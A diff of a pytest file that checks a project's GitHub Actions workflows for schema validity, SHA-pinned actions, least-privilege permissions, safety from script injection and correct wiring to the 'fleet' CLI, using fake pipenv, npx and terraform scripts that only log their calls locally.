@@ -1,12 +1,16 @@
-"""The GitHub Actions workflows: schema-valid, wired as the README and DESIGN promise, injection-safe.
+"""The GitHub Actions workflows: schema-valid, pinned, least-privileged, injection-safe, and wired to
+what `fleet` prints.
 
-`.github/workflows/pr.yml` tests, comments the stack diff on the PR and plans each changed stack;
-`.github/workflows/deploy.yml` deploys or destroys one stack behind its GitHub environment.
-Besides the static checks, the run scripts are executed with a fake `pipenv`/`npx` and the
-github-script bodies with a fake GitHub API (node), so their logic is exercised offline. The
-README's pasted `fleet validate` output (what the gate's first step prints) is the real
-command's output. (The README's runbook blocks are checked against the planner in
-tests/test_planner.py.)
+`.github/workflows/pr.yml` tests the PR, judges it with the BASE branch's rules (`phases`), comments
+the stack diff (`stack-diff`) and plans each changed stack against state (`plan`).
+`.github/workflows/deploy.yml` deploys a merge: `step` runs `python -m fleet step --json`, the
+slots `stack-1` ... `stack-N` each call `.github/workflows/stack.yml` for one stack in order, then
+`checks` runs the step's `python -m fleet check` commands. `stack.yml` writes a saved plan, shows
+it in the job summary, waits for the stack's environment and applies exactly that plan.
+
+Besides the static checks, the `run:` scripts are executed offline as GitHub runs them (`bash -e`)
+with fake `pipenv`/`npx`/`terraform` first on PATH, and the github-script bodies with a fake GitHub
+API in node. The README's pasted `fleet validate` output is the real command's output.
 """
 
 from __future__ import annotations
@@ -24,14 +28,26 @@ from typing import Any
 
 import pytest
 import yaml
+from test_pipeline import TRANSITIONS
+
+from fleet import names
+from fleet.gate.comment import MARKER
+from fleet.gate.sources import GATE_AFFECTING
+from fleet.lifecycle import DEFAULT_WEIGHT_STEPS
+from fleet.ops.defaults import MAX_WAIT_MINUTES
+from fleet.ops.pipeline import LOCAL_STATE, MAX_STACK_JOBS, merged_step
+from fleet.spec.load import load_fleet
 
 ROOT = Path(__file__).resolve().parent.parent
 WORKFLOWS = ROOT / ".github" / "workflows"
 PR = WORKFLOWS / "pr.yml"
 DEPLOY = WORKFLOWS / "deploy.yml"
-MARKER = "<!-- ephemeral-eks-diff -->"
-STACK_ID = re.compile(r"^(shared|argocd-[a-z][a-z0-9]{0,11}|target-[a-z][a-z0-9]{0,11})$")
-PINNED = re.compile(r"^[\w.-]+/[\w./-]+@(v\d+(\.\d+){0,2}|[0-9a-f]{40})$")
+STACK = WORKFLOWS / "stack.yml"
+ALL = (PR, DEPLOY, STACK)
+LOCAL_STACK_WORKFLOW = "./.github/workflows/stack.yml"
+VPC_RUNNER = "${{ fromJSON(vars.EPHEMERAL_EKS_RUNNER || '\"ubuntu-latest\"') }}"
+PR_CODE_JOBS = ("test", "stack-diff", "plan")
+"""The pr.yml jobs that run the PR's own code (its Makefile, tests, cdktf.json app command)."""
 
 needs_schema = pytest.mark.skipif(
     importlib.util.find_spec("check_jsonschema") is None,
@@ -39,6 +55,12 @@ needs_schema = pytest.mark.skipif(
 )
 needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not on PATH")
 needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not on PATH")
+
+
+@pytest.fixture(autouse=True)
+def _not_on_a_ci_runner(monkeypatch):
+    """`merged_step` and `fleet action` refuse local state where CI is set; the examples use it."""
+    monkeypatch.delenv("CI", raising=False)
 
 
 def load(path: Path) -> dict[str, Any]:
@@ -54,8 +76,16 @@ def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
     return job.get("steps", [])
 
 
+def action_of(step: dict[str, Any]) -> str:
+    return step.get("uses", "").split("@")[0]
+
+
+def steps_using(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
+    return [s for s in steps(job) if action_of(s) == action]
+
+
 def step_using(job: dict[str, Any], action: str) -> dict[str, Any]:
-    found = [s for s in steps(job) if s.get("uses", "").split("@")[0] == action]
+    found = steps_using(job, action)
     assert len(found) == 1, f"expected one step using {action}, found {len(found)}"
     return found[0]
 
@@ -66,8 +96,26 @@ def step_with_id(job: dict[str, Any], step_id: str) -> dict[str, Any]:
     return found[0]
 
 
+def run_step_named(job: dict[str, Any], fragment: str) -> dict[str, Any]:
+    found = [s for s in steps(job) if "run" in s and fragment in s.get("name", "")]
+    assert len(found) == 1, f"expected one run step named like {fragment!r}"
+    return found[0]
+
+
+def runs(job: dict[str, Any]) -> list[str]:
+    return [s["run"] for s in steps(job) if "run" in s]
+
+
 def all_steps(doc: dict[str, Any]) -> list[dict[str, Any]]:
     return [s for job in doc["jobs"].values() for s in steps(job)]
+
+
+def as_list(value: str | list[str] | None) -> list[str]:
+    return [] if value is None else [value] if isinstance(value, str) else list(value)
+
+
+def roles(job: dict[str, Any]) -> list[str]:
+    return [s["with"]["role-to-assume"] for s in steps_using(job, "aws-actions/configure-aws-credentials")]
 
 
 @pytest.fixture(scope="module")
@@ -78,6 +126,16 @@ def pr() -> dict[str, Any]:
 @pytest.fixture(scope="module")
 def deploy() -> dict[str, Any]:
     return load(DEPLOY)
+
+
+@pytest.fixture(scope="module")
+def stack() -> dict[str, Any]:
+    return load(STACK)
+
+
+@pytest.fixture(scope="module")
+def docs() -> dict[Path, dict[str, Any]]:
+    return {path: load(path) for path in ALL}
 
 
 # --- GitHub's workflow schema (check-jsonschema ships it, so this runs offline) -------------
@@ -93,14 +151,16 @@ def check_workflow(path: Path) -> subprocess.CompletedProcess[str]:
 
 
 @needs_schema
-@pytest.mark.parametrize("path", [PR, DEPLOY], ids=lambda p: p.name)
+@pytest.mark.parametrize("path", ALL, ids=lambda p: p.name)
 def test_workflow_validates_against_githubs_schema(path):
     result = check_workflow(path)
     assert result.returncode == 0, result.stdout + result.stderr
 
 
-def _unchanged(doc: dict[str, Any]) -> dict[str, Any]:
-    return doc
+def write_copy(path: Path, doc: dict[str, Any]) -> Path:
+    doc = {("on" if key is True else key): value for key, value in doc.items()}
+    path.write_text(yaml.safe_dump(doc, sort_keys=False))  # PyYAML quotes the key: 'on'
+    return path
 
 
 def _without_runs_on(doc: dict[str, Any]) -> dict[str, Any]:
@@ -113,16 +173,10 @@ def _unknown_top_level_key(doc: dict[str, Any]) -> dict[str, Any]:
     return doc
 
 
-def write_copy(path: Path, doc: dict[str, Any]) -> Path:
-    doc = {("on" if key is True else key): value for key, value in doc.items()}
-    path.write_text(yaml.safe_dump(doc, sort_keys=False))  # PyYAML quotes the key: 'on'
-    return path
-
-
 @needs_schema
 def test_a_round_tripped_copy_still_validates(tmp_path, pr):
     """The control for the next test: the copy fails only for what was broken in it."""
-    result = check_workflow(write_copy(tmp_path / "pr.yml", _unchanged(copy.deepcopy(pr))))
+    result = check_workflow(write_copy(tmp_path / "pr.yml", copy.deepcopy(pr)))
     assert result.returncode == 0, result.stdout + result.stderr
 
 
@@ -134,15 +188,154 @@ def test_schema_check_rejects_a_broken_workflow(tmp_path, pr, breakage):
     assert "Schema validation errors" in result.stdout + result.stderr
 
 
-# --- pr.yml ---------------------------------------------------------------------------------
+# --- supply chain: every action pinned by commit SHA, its tag in a comment ----------------------
+
+USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(?P<ref>\S+)(?P<rest>.*)$")
+SHA_PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
+TAG_COMMENT = re.compile(r"^\s+#\s*v\d+(\.\d+){0,2}\b")
 
 
-def test_every_action_is_pinned_to_a_version_never_a_branch(pr, deploy):
-    uses = [s["uses"] for doc in (pr, deploy) for s in all_steps(doc) if "uses" in s]
-    assert uses
-    for ref in uses:
-        assert PINNED.match(ref), f"{ref} is not pinned to @v<N> or a commit SHA"
-        assert not ref.endswith(("@main", "@master")), ref
+def unpinned(text: str) -> list[str]:
+    """Every `uses:` line not pinned as `owner/repo@<40-hex sha> # vX[.Y[.Z]]`; local workflows exempt."""
+    bad = []
+    for line in text.splitlines():
+        match = USES_LINE.match(line)
+        if not match or match.group("ref").startswith("./"):
+            continue
+        if not (SHA_PINNED.match(match.group("ref")) and TAG_COMMENT.match(match.group("rest"))):
+            bad.append(line.strip())
+    return bad
+
+
+SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
+
+
+@pytest.mark.parametrize(
+    ("line", "pinned"),
+    [
+        (f"      - uses: actions/checkout@{SHA} # v4.2.2", True),
+        (f"    uses: actions/checkout@{SHA}  #v4", True),
+        (f"uses: github/codeql-action/init@{SHA} # v3.28.0", True),
+        ("    uses: ./.github/workflows/stack.yml", True),
+        ("      - uses: actions/checkout@v4", False),
+        ("      - uses: actions/checkout@v4.2.2 # v4.2.2", False),
+        (f"      - uses: actions/checkout@{SHA}", False),  # no tag comment
+        (f"      - uses: actions/checkout@{SHA} # main", False),
+        (f"      - uses: actions/checkout@{SHA[:12]} # v4", False),  # short SHA
+        ("      - uses: actions/checkout@main # v4", False),
+        (f"      - uses: actions/checkout@{SHA.upper()} # v4", False),
+    ],
+)
+def test_the_pin_check_accepts_only_a_full_sha_with_its_tag(line, pinned):
+    assert (unpinned(line) == []) is pinned
+
+
+def test_every_uses_line_is_seen_by_the_pin_check(docs):
+    """The line-based check sees every `uses:` the parsed workflows hold (steps and reusable calls)."""
+    for path, doc in docs.items():
+        parsed = [s["uses"] for s in all_steps(doc) if "uses" in s]
+        parsed += [job["uses"] for job in doc["jobs"].values() if "uses" in job]
+        lines = [m.group("ref") for m in map(USES_LINE.match, path.read_text().splitlines()) if m]
+        assert sorted(lines) == sorted(parsed), path.name
+
+
+def test_every_action_is_pinned_to_a_full_commit_sha_with_its_tag_in_a_comment():
+    """zizmor's unpinned-uses: a tag can be moved to other code; a commit SHA cannot."""
+    found = {path.name: unpinned(path.read_text()) for path in ALL}
+    assert not any(found.values()), "pin by `owner/repo@<40-hex sha> # vX.Y.Z`:\n" + "\n".join(
+        f"{name}: {line}" for name, lines in found.items() for line in lines
+    )
+
+
+def test_only_local_reusable_workflows_are_called(docs):
+    calls = [job["uses"] for doc in docs.values() for job in doc["jobs"].values() if "uses" in job]
+    assert calls and set(calls) == {LOCAL_STACK_WORKFLOW}
+    assert (ROOT / LOCAL_STACK_WORKFLOW).is_file()
+
+
+# --- credentials and permissions --------------------------------------------------------------
+
+
+def test_every_checkout_drops_its_credentials(docs):
+    checkouts = [(p.name, s) for p, d in docs.items() for s in all_steps(d) if action_of(s) == "actions/checkout"]
+    assert checkouts
+    for name, step in checkouts:
+        assert step.get("with", {}).get("persist-credentials") is False, f"{name}: {step}"
+
+
+def test_every_workflow_grants_nothing_at_the_top(docs):
+    for path, doc in docs.items():
+        assert doc["permissions"] == {}, path.name
+
+
+EXPECTED_PERMISSIONS = {
+    "pr.yml": {
+        "test": {"contents": "read"},
+        "phases": {"contents": "read", "id-token": "write"},
+        "stack-diff": {"contents": "read", "pull-requests": "write"},
+        "plan": {"contents": "read", "id-token": "write", "pull-requests": "write"},
+    },
+    "deploy.yml": {
+        "step": {"contents": "read"},
+        **{f"stack-{i}": {"contents": "read", "id-token": "write"} for i in range(1, MAX_STACK_JOBS + 1)},
+        "checks": {"contents": "read", "id-token": "write"},
+    },
+    "stack.yml": {
+        "plan": {"contents": "read", "id-token": "write"},
+        "apply": {"contents": "read", "id-token": "write"},
+    },
+}
+
+
+def test_every_job_names_its_least_permissions(docs):
+    for path, doc in docs.items():
+        granted = {name: job.get("permissions") for name, job in doc["jobs"].items()}
+        assert granted == EXPECTED_PERMISSIONS[path.name], path.name
+
+
+def test_a_write_permission_is_held_only_where_a_step_uses_it(docs, stack):
+    """id-token: write only where AWS credentials are configured (or in a call of stack.yml, whose
+    jobs do), pull-requests: write only where a github-script writes the PR comment."""
+    called = {k for job in stack["jobs"].values() for k, v in job["permissions"].items() if v == "write"}
+    for path, doc in docs.items():
+        for name, job in doc["jobs"].items():
+            writes = {k for k, v in job["permissions"].items() if v != "read"}
+            needed = set()
+            if job.get("uses") == LOCAL_STACK_WORKFLOW:
+                needed |= called
+            if roles(job):
+                needed.add("id-token")
+            if steps_using(job, "actions/github-script"):
+                needed.add("pull-requests")
+            assert writes == needed, f"{path.name} {name}: holds {sorted(writes)}, uses {sorted(needed)}"
+            assert set(job["permissions"].values()) <= {"read", "write"}
+
+
+def test_no_workflow_uses_a_long_lived_secret(docs):
+    for path in docs:
+        assert "secrets." not in path.read_text(), f"{path.name}: OIDC roles only"
+
+
+def test_node_is_22_or_newer_wherever_it_is_set(docs):
+    versions = [
+        str(s["with"]["node-version"]) for d in docs.values() for s in all_steps(d) if "setup-node" in action_of(s)
+    ]
+    assert versions
+    for version in versions:
+        assert int(re.match(r"(\d+)", version).group(1)) >= 22, version
+
+
+def test_no_script_interpolates_an_expression(docs):
+    """Script injection: `${{ }}` is expanded into the script's text before the shell or node reads
+    it; a branch name, a label, a dispatch input or a step output could carry code. Every value
+    reaches a script through `env:` instead."""
+    for path, doc in docs.items():
+        for step in all_steps(doc):
+            for script in (step.get("run", ""), step.get("with", {}).get("script", "")):
+                assert "${{" not in script, f"{path.name}: {step.get('name') or step.get('uses')}"
+
+
+# --- pr.yml -----------------------------------------------------------------------------------
 
 
 def test_pr_runs_on_pull_request_with_one_concurrency_group_per_pr(pr):
@@ -151,68 +344,105 @@ def test_pr_runs_on_pull_request_with_one_concurrency_group_per_pr(pr):
     assert pr["concurrency"]["cancel-in-progress"] is True
 
 
-def test_test_job_installs_as_the_readme_says_and_runs_make_test(pr):
+def test_test_job_runs_make_test_and_checkov_on_the_prs_stacks(pr):
     job = pr["jobs"]["test"]
     assert step_using(job, "actions/checkout")["with"]["fetch-depth"] == 0
     assert str(step_using(job, "actions/setup-python")["with"]["python-version"]) == "3.11"
-    assert str(step_using(job, "actions/setup-node")["with"]["node-version"]) == "20"
-    runs = [s["run"].strip() for s in steps(job) if "run" in s]
-    assert runs == ["make test"], "make test installs pipenv, Pipfile.lock and the pinned cdktf CLI itself"
+    scripts = [r.strip() for r in runs(job)]
+    assert scripts[0] == "make test"
+    assert "make synth" in scripts[1] and "checkov -d cdktf.out/stacks" in scripts[1]
 
 
-def test_stack_diff_comments_the_markdown_diff_under_the_marker(pr):
+PHASES_COMMAND = "python -m fleet plan ../head/fleet.yaml --base fleet.yaml"
+
+
+def test_phases_job_checks_out_the_pr_as_data_and_the_base_as_code(pr):
+    job = pr["jobs"]["phases"]
+    head, base = steps_using(job, "actions/checkout")
+    assert head["with"]["path"] == "head" and "ref" not in head["with"]
+    assert base["with"]["ref"] == "${{ github.base_ref }}" and base["with"]["path"] == ".gate-base"
+    script = step_with_id(job, "phases")["run"]
+    lines = [line.strip() for line in script.splitlines()]
+    assert "cd .gate-base" in lines
+    command = next(i for i, line in enumerate(lines) if PHASES_COMMAND in line)
+    assert lines.index("cd .gate-base") < command
+    assert "python -m fleet validate ../head/fleet.yaml" in lines[command]
+
+
+def test_no_phases_step_runs_anything_from_the_head_checkout(pr):
+    """The head checkout is data: its fleet file is read, nothing in it runs (no Makefile, no
+    action, no module); every command runs in `.gate-base/`."""
+    job = pr["jobs"]["phases"]
+    for step in steps(job):
+        assert not step.get("uses", "").startswith("./"), step
+        assert "head" not in json.dumps(step.get("with", {})).replace('"path": "head"', ""), step
+    for script in runs(job):
+        commands = [line.strip() for line in script.splitlines() if line.strip()]
+        assert all(
+            c.startswith(("make -C .gate-base ", "set ", "cd .gate-base", "code=$?", "echo ", "cat ../phases.txt"))
+            or c.startswith("{ pipenv run python -m fleet ")
+            for c in commands
+        ), commands
+        assert re.findall(r"\S*head\S*", script) in ([], ["../head/fleet.yaml", "../head/fleet.yaml"]), script
+    assert not steps_using(job, "actions/setup-node"), "nothing of the PR's (npm) is installed"
+
+
+def test_phases_job_reads_state_with_the_state_read_role_only(pr):
+    job = pr["jobs"]["phases"]
+    assert roles(job) == ["${{ vars.AWS_STATE_READ_ROLE_ARN }}"]
+
+
+def test_stack_diff_holds_no_aws_credential(pr):
     job = pr["jobs"]["stack-diff"]
-    assert job["needs"] == "test"
-    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}
-    head, base = [s for s in steps(job) if s.get("uses", "").startswith("actions/checkout@")]
-    assert head["with"]["fetch-depth"] == 0
-    assert base["with"] == {"ref": "${{ github.base_ref }}", "path": ".gate-base"}
-    runs = [s.get("run", "").strip() for s in steps(job)]
-    assert "make deps" in runs and "make -C .gate-base deps" in runs
-    diff = step_with_id(job, "diff")["run"]
-    assert "--markdown-out ../diff.md" in diff and job["env"]["BASE_REF"] == "${{ github.base_ref }}"
-    comment = step_using(job, "actions/github-script")
-    script = comment["with"]["script"]
-    assert MARKER in script and "startsWith(MARKER)" in script
-    assert "updateComment" in script and "createComment" in script
+    assert roles(job) == [] and "id-token" not in job["permissions"]
+    assert "AWS_" not in json.dumps(job)
+
+
+def test_no_job_that_runs_pr_code_holds_a_role_that_reads_a_cluster(pr):
+    """The plan role reads state (and takes the lock); nothing that runs PR code gets the deploy or
+    check role, nor a runner inside the VPC that can reach a cluster's private endpoint."""
+    assert {name: roles(pr["jobs"][name]) for name in PR_CODE_JOBS} == {
+        "test": [],
+        "stack-diff": [],
+        "plan": ["${{ vars.AWS_PLAN_ROLE_ARN }}"],
+    }
+    text = PR.read_text()
+    for role in ("AWS_DEPLOY_ROLE_ARN", "AWS_CHECK_ROLE_ARN"):
+        assert role not in text
+    for name in PR_CODE_JOBS:
+        assert "EPHEMERAL_EKS_RUNNER" not in json.dumps(pr["jobs"][name]["runs-on"]), name
 
 
 def test_the_guard_runs_from_the_base_branch_and_synthesizes_each_side_once(pr):
-    """The guard's code and rules come from the base branch's checkout; one `fleet diff` run
-    writes both the comment and the stack list, so base and head are synthesized once each."""
     job = pr["jobs"]["stack-diff"]
+    assert set(as_list(job["needs"])) == {"test", "phases"}
+    head, base = steps_using(job, "actions/checkout")
+    assert head["with"]["fetch-depth"] == 0
+    assert base["with"]["ref"] == "${{ github.base_ref }}" and base["with"]["path"] == ".gate-base"
     diff = step_with_id(job, "diff")["run"]
     assert "cd .gate-base && pipenv run python -m fleet diff --repo .." in diff
     assert '--base "origin/${BASE_REF}"' in diff and "--stacks-out ../stacks.txt" in diff
     assert "${STATE_MIGRATED}" in diff and "migrate-state" in job["env"]["STATE_MIGRATED"]
-    all_runs = "\n".join(s.get("run", "") for s in steps(job))
-    assert all_runs.count("python -m fleet diff") == 1
+    assert "\n".join(runs(job)).count("python -m fleet diff") == 1
 
 
-def test_the_gate_validates_and_checks_phase_moves_against_the_base_fleet_file(pr):
-    job = pr["jobs"]["stack-diff"]
-    phases = step_with_id(job, "phases")["run"]
-    assert "python -m fleet validate" in phases
-    assert 'python -m fleet plan --base "origin/${BASE_REF}"' in phases
-    order = [s.get("id") for s in steps(job)]
-    assert order.index("phases") < order.index("diff")
-
-
-def test_stack_diff_exposes_the_changed_stacks_as_a_json_array_output(pr):
-    job = pr["jobs"]["stack-diff"]
-    match = re.fullmatch(r"\$\{\{ steps\.([\w-]+)\.outputs\.stacks }}", job["outputs"]["stacks"])
-    assert match, job["outputs"]["stacks"]
-    script = step_with_id(job, match.group(1))["run"]
-    assert "stacks.txt" in script
-    assert "jq -R -s -c" in script and 'stacks=${stacks}" >> "$GITHUB_OUTPUT"' in script
+def test_the_comment_marker_comes_from_fleet_never_a_literal(docs, pr):
+    for path in docs:
+        assert MARKER not in path.read_text(), f"{path.name}: the marker is fleet.gate.comment.MARKER"
+    for name in ("stack-diff", "plan"):
+        job = pr["jobs"][name]
+        script = step_using(job, "actions/github-script")
+        assert script["env"]["MARKER"] == "${{ steps.marker.outputs.marker }}"
+        assert "const MARKER = process.env.MARKER;" in script["with"]["script"]
+        assert "from fleet.gate.comment import MARKER" in step_with_id(job, "marker")["run"]
 
 
 def test_stack_diff_posts_the_comment_before_it_fails_on_the_gate(pr):
     job = pr["jobs"]["stack-diff"]
-    order = [s.get("id") or s.get("uses", "").split("@")[0] or s.get("name") for s in steps(job)]
+    order = [s.get("id") or action_of(s) or s.get("name") for s in steps(job)]
     assert order.index("diff") < order.index("actions/github-script") < order.index("stacks")
     last = steps(job)[-1]
-    assert last["if"] == "steps.diff.outputs.exit_code != '0' || steps.phases.outputs.exit_code != '0'"
+    assert last["if"] == "steps.diff.outputs.exit_code != '0' || needs.phases.outputs.exit_code != '0'"
     assert "exit 1" in last["run"]
 
 
@@ -222,99 +452,44 @@ def test_plan_job_is_a_matrix_over_the_changed_stacks(pr):
     assert job["if"] == "needs.stack-diff.outputs.stacks != '[]'"
     assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stack-diff.outputs.stacks) }}"
     assert job["strategy"]["fail-fast"] is False
-
-
-def test_plan_job_assumes_the_plan_role_through_oidc(pr):
-    job = pr["jobs"]["plan"]
-    assert job["permissions"] == {"id-token": "write", "contents": "read", "pull-requests": "write"}
-    aws = step_using(job, "aws-actions/configure-aws-credentials")
-    assert int(re.search(r"@v(\d+)", aws["uses"]).group(1)) >= 4
-    assert aws["with"]["role-to-assume"] == "${{ vars.AWS_PLAN_ROLE_ARN }}"
-    assert aws["with"]["aws-region"] == "${{ vars.AWS_REGION }}"
-    assert "secrets." not in PR.read_text(), "no long-lived AWS keys: OIDC only"
-
-
-def test_plan_job_runs_cdktf_diff_and_appends_it_to_the_comment(pr):
-    job = pr["jobs"]["plan"]
-    tf = step_using(job, "hashicorp/setup-terraform")["with"]
-    assert str(tf["terraform_version"]) == "1.11.4" and tf["terraform_wrapper"] is False
-    assert any(s.get("run", "").strip() == "make deps" for s in steps(job))
     assert job["env"]["STACK"] == "${{ matrix.stack }}"
-    plan = step_with_id(job, "plan")["run"]
-    assert "set -o pipefail" in plan
-    assert 'npx cdktf diff "${STACK}" 2>&1 | tee plan.txt' in plan
-    append = step_using(job, "actions/github-script")
-    script = append["with"]["script"]
-    assert MARKER in script and "<details><summary>cdktf diff ${stack}</summary>" in script
-    assert "```" in script and "65536" in script
-    assert "cancelled()" in append["if"], "a failed plan is still appended to the comment"
-
-
-# --- deploy.yml -----------------------------------------------------------------------------
-
-
-def test_deploy_is_manual_only_with_a_stack_and_the_fleet_file_decides_the_action(deploy):
-    on = triggers(deploy)
-    assert set(on) == {"workflow_dispatch"}
-    inputs = on["workflow_dispatch"]["inputs"]
-    assert inputs["stack"]["type"] == "string" and inputs["stack"]["required"] is True
-    for word in ("shared", "argocd-<gen>", "target-<gen>", "destroyed"):
-        assert word in inputs["stack"]["description"]
-    assert set(inputs) == {"stack", "runner"}, "deploy or destroy is the fleet file's word (phase destroyed)"
-
-
-def _deploy_job(deploy: dict[str, Any]) -> dict[str, Any]:
-    jobs = [j for j in deploy["jobs"].values() if "environment" in j]
-    assert len(jobs) == 1, "one job runs cdktf, gated by the stack's environment"
-    return jobs[0]
-
-
-def test_deploy_job_is_gated_by_the_stacks_environment_one_run_per_stack(deploy):
-    job = _deploy_job(deploy)
-    assert job["environment"] == "${{ inputs.stack }}"
-    assert job["concurrency"]["group"] == "deploy-${{ inputs.stack }}"
-    assert job["concurrency"]["cancel-in-progress"] is False
-    assert job["permissions"]["id-token"] == "write"
-    aws = step_using(job, "aws-actions/configure-aws-credentials")
-    assert aws["with"]["role-to-assume"] == "${{ vars.AWS_DEPLOY_ROLE_ARN }}"
     tf = step_using(job, "hashicorp/setup-terraform")["with"]
     assert str(tf["terraform_version"]) == "1.11.4" and tf["terraform_wrapper"] is False
-    assert any(s.get("run", "").strip() == "make deps" for s in steps(job))
 
 
-def test_no_run_script_interpolates_an_expression_of_user_input(pr, deploy):
-    for doc in (pr, deploy):
-        for step in all_steps(doc):
-            run = step.get("run", "")
-            assert "${{ inputs." not in run and "${{ github.event" not in run, run
-            assert "${{ github.base_ref" not in run and "${{ matrix." not in run, run
-
-
-def test_deploy_validates_the_stack_id_before_running_cdktf_with_it_from_env(deploy):
-    job = _deploy_job(deploy)
-    assert job["env"] == {"STACK": "${{ inputs.stack }}"}
-    runs = [s.get("run", "") for s in steps(job)]
-    validate = next(i for i, r in enumerate(runs) if STACK_ID.pattern in r)
-    cdktf = next(i for i, r in enumerate(runs) if "npx cdktf" in r)
-    assert validate < cdktf and validate < [i for i, s in enumerate(steps(job)) if "uses" in s][0]
-    assert 'action=$(pipenv run python -m fleet action "${STACK}")' in runs[cdktf]
-    assert 'npx cdktf "${action}" "${STACK}" --auto-approve' in runs[cdktf]
-    # the validate job refuses a bad id before an environment named after it is even looked up
-    assert "validate" in job["needs"]
-    assert STACK_ID.pattern in deploy["jobs"]["validate"]["steps"][0]["run"]
+def test_plan_compares_configuration_with_state_only(pr):
+    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
+    plans = [line for line in script.splitlines() if re.search(r"terraform .* plan ", line)]
+    assert len(plans) == 1 and "-refresh=false" in plans[0]
+    assert "apply" not in script
 
 
 # --- the scripts, executed --------------------------------------------------------------------
 
 
-def run_bash(script: str, tmp_path: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
-    """Run a step's script as GitHub does (bash -e -o pipefail), with fakes first on PATH."""
-    output = tmp_path / "github_output"
-    output.touch()
-    full = {**os.environ, "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(output), **env}
+def run_bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """Run a step's script as GitHub runs a `run:` without `shell:` (`bash -e {0}`: no pipefail),
+    with the fakes first on PATH."""
+    for name in ("github_output", "step_summary"):
+        (cwd / name).touch()
+    bin_dir = cwd / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    for name, body in (("pipenv", FAKE_PIPENV), ("npx", FAKE_NPX), ("terraform", FAKE_TERRAFORM)):
+        (bin_dir / name).write_text(body)
+        (bin_dir / name).chmod(0o755)
+    full = {
+        **os.environ,
+        "PATH": f"{bin_dir}:{os.environ['PATH']}",
+        "REAL_PYTHON": sys.executable,
+        "REAL_MARKER": MARKER,
+        "GITHUB_OUTPUT": str(cwd / "github_output"),
+        "GITHUB_STEP_SUMMARY": str(cwd / "step_summary"),
+        "FAKE_LOG": str(cwd / "calls"),
+        **env,
+    }
     return subprocess.run(
-        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
-        cwd=tmp_path,
+        ["bash", "--noprofile", "--norc", "-e", "-c", script],
+        cwd=cwd,
         env=full,
         capture_output=True,
         text=True,
@@ -322,59 +497,108 @@ def run_bash(script: str, tmp_path: Path, env: dict[str, str]) -> subprocess.Com
     )
 
 
-def fake(tmp_path: Path, name: str, body: str) -> None:
-    bin_dir = tmp_path / "bin"
-    bin_dir.mkdir(exist_ok=True)
-    path = bin_dir / name
-    path.write_text("#!/usr/bin/env bash\n" + body)
-    path.chmod(0o755)
-
-
-def outputs(tmp_path: Path) -> dict[str, str]:
-    lines = (tmp_path / "github_output").read_text().splitlines()
-    return dict(line.split("=", 1) for line in lines)
-
-
-FAKE_PIPENV = """\
-echo "$@" >> "$(dirname "$0")/calls"
+FAKE_PIPENV = r"""#!/usr/bin/env bash
+# pipenv run python ...: logs "<cwd>\t<args>", then plays the fleet command the test asks for.
+printf '%s\t%s\n' "$PWD" "$*" >> "$FAKE_LOG"
+[ "$1 $2" = "run python" ] || { echo "fake pipenv: unexpected $*" >&2; exit 97; }
+if [ "$3" = "-c" ]; then shift 2; exec "$REAL_PYTHON" "$@"; fi
 case " $* " in
-  *" fleet diff "*) echo "## fleet diff" > ../diff.md; printf 'shared\\ntarget-green\\n' > ../stacks.txt ;;
-  *" fleet plan "*) echo "refused: services.web.targets.blue: removing it while serving"; exit "${FAKE_EXIT:-0}" ;;
-  *" fleet action "*) echo "${FAKE_ACTION:-deploy}" ;;
-  *" fleet validate "*) exit 0 ;;
+  *" fleet validate "*) echo "../head/fleet.yaml: valid" ;;
+  *" fleet plan "*)
+    if [ "${FAKE_PHASES_EXIT:-0}" != 0 ]; then
+      echo "../head/fleet.yaml: refused: services.web.targets.green: provisioning -> serving skips registered" >&2
+      exit "${FAKE_PHASES_EXIT}"
+    fi
+    echo "1. Move 50% of web's traffic to green" ;;
+  *" fleet diff "*)
+    prev=""
+    for a in "$@"; do
+      case "$prev" in
+        --markdown-out) printf '%s\n## fleet diff\n' "$REAL_MARKER" > "$a" ;;
+        --stacks-out) printf '%s' "${FAKE_CHANGED-shared
+target-green
+}" > "$a" ;;
+      esac
+      prev="$a"
+    done
+    exit "${FAKE_DIFF_EXIT:-0}" ;;
+  *" fleet step "*) cat "$FAKE_STEP" ;;
+  *" fleet action "*)
+    if [ -n "${FAKE_ACTION_ERROR:-}" ]; then echo "${FAKE_ACTION_ERROR}" >&2; exit 2; fi
+    echo "${FAKE_ACTION:-deploy}" ;;
+  *" fleet check "*)
+    for stack in ${FAKE_FAILING:-}; do
+      case " $* " in *" check ${stack} "*) echo "${stack}: target group unhealthy: 0 of 3 targets healthy"; exit 1 ;; esac
+    done
+    echo "ok" ;;
+  *) echo "fake pipenv: unexpected $*" >&2; exit 98 ;;
 esac
-exit "${FAKE_EXIT:-0}"
+"""
+
+FAKE_NPX = r"""#!/usr/bin/env bash
+printf '%s\t%s\n' "$PWD" "npx $*" >> "$FAKE_LOG"
+"""
+
+FAKE_TERRAFORM = r"""#!/usr/bin/env bash
+printf '%s\t%s\n' "$PWD" "terraform $*" >> "$FAKE_LOG"
+case " $* " in
+  *" show "*) echo "Plan: 1 to add, 0 to change, 0 to destroy." ;;
+  *" plan "*) echo "Plan: 1 to add, 0 to change, 0 to destroy."; exit "${FAKE_PLAN_EXIT:-0}" ;;
+esac
 """
 
 
-@needs_jq
-@pytest.mark.parametrize("code", [0, 1])
-def test_stack_diff_scripts_remember_the_guard_and_output_a_json_array(tmp_path, pr, code):
-    job = pr["jobs"]["stack-diff"]
-    fake(tmp_path, "pipenv", FAKE_PIPENV)
+def calls(cwd: Path) -> list[tuple[str, str]]:
+    log = cwd / "calls"
+    if not log.exists():
+        return []
